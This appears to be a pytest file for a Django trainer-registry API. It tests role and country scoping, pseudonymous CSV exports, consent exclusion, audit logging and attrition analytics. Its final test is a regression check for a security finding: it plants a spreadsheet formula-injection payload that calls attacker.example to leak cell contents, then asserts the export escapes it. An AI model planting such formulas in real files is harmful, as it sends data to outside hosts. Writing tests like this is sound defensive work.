"""Certificates, attrition figures and the interchange file through the API: the same
roles and country scope as everywhere, pseudonymous ids only, every export audited."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from trainer_registry.demo import generator, loader
from trainer_registry.followup import campaigns
from trainer_registry.models import (
    AuditEvent,
    FollowUpCampaign,
    IssuedCertificate,
    Person,
    Role,
    RoleGrant,
    TrainingEvent,
)

pytestmark = pytest.mark.django_db

API = "/registry/api/v1"


def _campaign(code: str, country: str) -> FollowUpCampaign:
    campaign = FollowUpCampaign.objects.create(
        code=code, name=code, design="census", countries=[country]
    )
    campaigns.draw_sample(campaign)
    for number, member in enumerate(campaign.members.select_related("person")[:12]):
        left = number % 3 == 0
        campaigns.record_answers(
            member,
            campaigns.Answers(
                consent=True,
                still_in_role="no" if left else "yes",
                left_role_on=date(2020, 6, 1) if left else None,
                leaving_reason="retired" if left else "",
            ),
            wave=1,
            channel="phone",
            entered_by=None,
        )
    return campaign


@pytest.fixture
def registry():
    loader.load(generator.generate(seed=31))
    kh, vn = _campaign("kh-api", "KH"), _campaign("vn-api", "VN")
    certificates = {}
    for country in ("KH", "VN"):
        person = Person.objects.filter(country=country, participations__isnull=False).first()
        event = person.participations.first().event
        certificates[country] = IssuedCertificate.objects.create(
            code=f"TEST{country}00000001",
            kind="participant",
            person=person,
            event=event,
            issued_on=date(2024, 5, 1),
            snapshot={"name": "generated"},
        )
    return {"kh": kh, "vn": vn, "certificates": certificates}


@pytest.fixture
def api_as(django_user_model):
    def make(role, country=""):
        user = django_user_model.objects.create_user(
            f"{role}-{country}", password="x-long-password"
        )
        if role == Role.TRAINER:
            trainer = TrainingEvent.objects.exclude(lead_trainer=None).first().lead_trainer
            RoleGrant.objects.create(user=user, role=role, person=trainer)
        elif role:
            RoleGrant.objects.create(user=user, role=role, country=country)
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
        return client

    return make


ROLES = {
    "regional": (Role.REGIONAL_ADMINISTRATOR, ""),
    "manager_kh": (Role.COUNTRY_MANAGER, "KH"),
    "analyst_kh": (Role.ME_ANALYST, "KH"),
    "auditor": (Role.AUDITOR, ""),
    "trainer": (Role.TRAINER, ""),
    "none": (None, ""),
}
# (VN certificate, VN interchange file, KH interchange file, attrition of vn-api,
#  attrition with country=VN, attrition of everything in reach)
EXPECTED = {
    "regional": (200, 200, 200, 200, 200, 200),
    "manager_kh": (404, 404, 200, 404, 403, 200),
    "analyst_kh": (404, 404, 200, 404, 403, 200),
    "auditor": (200, 403, 403, 403, 403, 403),
    "trainer": (404, 403, 403, 403, 403, 403),
    "none": (403, 403, 403, 403, 403, 403),
}


@pytest.mark.parametrize("role", list(ROLES))
def test_every_role_against_certificates_analytics_and_exports(api_as, registry, role):
    client = api_as(*ROLES[role])
    urls = (
        f"{API}/certificates/{registry['certificates']['VN'].code}/",
        f"{API}/campaigns/vn-api/interchange.csv",
        f"{API}/campaigns/kh-api/interchange.csv",
        f"{API}/analytics/attrition/?campaign=vn-api",
        f"{API}/analytics/attrition/?country=VN",
        f"{API}/analytics/attrition/",
    )
    assert tuple(client.get(url).status_code for url in urls) == EXPECTED[role]


def test_kh_manager_lists_and_searches_only_kh_certificates(api_as, registry):
    client = api_as(Role.COUNTRY_MANAGER, "KH")
    listed = client.get(f"{API}/certificates/").json()
    kh = registry["certificates"]["KH"]
    assert [c["code"] for c in listed["results"]] == [kh.code]
    assert listed["results"][0] == {
        "code": kh.code,
        "kind": "participant",
        "status": "valid",
        "person": str(kh.person.public_id),
        "event": kh.event.code,
        "issued_on": "2024-05-01",
        "issuer": None,
    }
    vn_event = registry["certificates"]["VN"].event.code
    assert client.get(f"{API}/certificates/", {"event": vn_event}).json()["count"] == 0
    assert client.get(f"{API}/certificates/", {"status": "revoked"}).json()["count"] == 0
    assert AuditEvent.objects.filter(action="list", object_type="issuedcertificate").count() == 3


def test_interchange_file_is_pseudonymous_and_audited(api_as, registry):
    response = api_as(Role.ME_ANALYST, "KH").get(f"{API}/campaigns/kh-api/interchange.csv")
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    header = text.splitlines()[0].split(",")
    assert header == [
        "person_id",
        "sex",
        "country",
        "organisation",
        "sector",
        "programme",
        "trained_on",
        "disposition",
        "in_role",
        "left_role_on",
        "last_confirmed_on",
        "weight",
    ]
    members = registry["kh"].members.select_related("person")
    assert {r["person_id"] for r in rows} == {str(m.person.public_id) for m in members}
    for person in Person.objects.filter(country="KH"):
        assert person.name_latin not in text
        if person.email:
            assert person.email not in text
    assert {r["country"] for r in rows} == {"KH"}
    assert sum(r["in_role"] == "no" for r in rows) == 4
    assert sum(r["in_role"] == "yes" for r in rows) == 8
    assert all(r["disposition"] in {"I", "UH"} for r in rows)
    entry = AuditEvent.objects.get(action="export", object_type="followupcampaign")
    assert entry.object_id == "kh-api"
    assert entry.detail["rows"] == len(rows)


def test_withdrawn_consent_leaves_the_person_out_of_exports(api_as, registry):
    member = registry["kh"].members.select_related("person").first()
    Person.objects.filter(pk=member.person.pk).update(consents_to_follow_up=False)
    response = api_as(Role.REGIONAL_ADMINISTRATOR).get(f"{API}/campaigns/kh-api/interchange.csv")
    assert str(member.person.public_id) not in response.content.decode()
    assert response["X-Left-Out-Without-Consent"] == "1"
    figures = (
        api_as(Role.ME_ANALYST).get(f"{API}/analytics/attrition/", {"campaign": "kh-api"}).json()
    )
    assert figures["left_out_without_consent"] == 1
    assert figures["overall"]["sampled"] == registry["kh"].members.count() - 1


def test_attrition_figures_for_a_campaign_and_a_filtered_population(api_as, registry):
    client = api_as(Role.ME_ANALYST)
    figures = client.get(f"{API}/analytics/attrition/", {"campaign": "kh-api", "by": "sex"}).json()
    overall = figures["overall"]
    assert (overall["respondents"], overall["left"]) == (12, 4)
    assert overall["share_left"] == pytest.approx(4 / 12)
    low, high = overall["ci"]
    assert low < 4 / 12 < high
    assert overall["response_rates"]["RR1"] == pytest.approx(12 / registry["kh"].members.count())
    assert {tuple(g["key"]) for g in figures["groups"]} == {("sex",)}
    assert sum(g["sampled"] for g in figures["groups"]) == overall["sampled"]
    both = client.get(f"{API}/analytics/attrition/", {"campaign": "kh-api,vn-api"}).json()
    only_vn = client.get(f"{API}/analytics/attrition/", {"country": "VN"}).json()
    assert both["overall"]["sampled"] == (
        registry["kh"].members.count() + registry["vn"].members.count()
    )
    assert only_vn["overall"]["sampled"] == registry["vn"].members.count()
    assert AuditEvent.objects.filter(action="export", object_type="attrition").count() == 3


@pytest.mark.parametrize(
    ("query", "field"),
    [({"by": "salary"}, "by"), ({"ci": "bootstrap"}, "ci"), ({"country": "Cambodia"}, "country")],
)
def test_bad_analytics_queries_name_the_field(api_as, registry, query, field):
    response = api_as(Role.ME_ANALYST).get(f"{API}/analytics/attrition/", query)
    assert response.status_code == 400
    assert field in response.json()


def test_an_unknown_campaign_is_not_found(api_as, registry):
    response = api_as(Role.ME_ANALYST).get(f"{API}/analytics/attrition/", {"campaign": "nope"})
    assert response.status_code == 404


def test_text_a_spreadsheet_would_run_as_a_formula_is_escaped_in_the_interchange(api_as, registry):
    """Finding: an organisation renamed to ``=HYPERLINK(...)`` landed unescaped."""
    from trainer_registry.models import Organisation

    formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
    for organisation in Organisation.objects.all():  # names are unique within a country
        organisation.name = f"{formula}-{organisation.pk}"
        organisation.save(update_fields=["name"])
    text = api_as(Role.ME_ANALYST, "KH").get(f"{API}/campaigns/kh-api/interchange.csv")
    rows = list(csv.DictReader(io.StringIO(text.content.decode("utf-8"))))
    organisations = {r["organisation"] for r in rows} - {""}
    assert organisations
    assert all(name.startswith("'" + formula) for name in organisations)
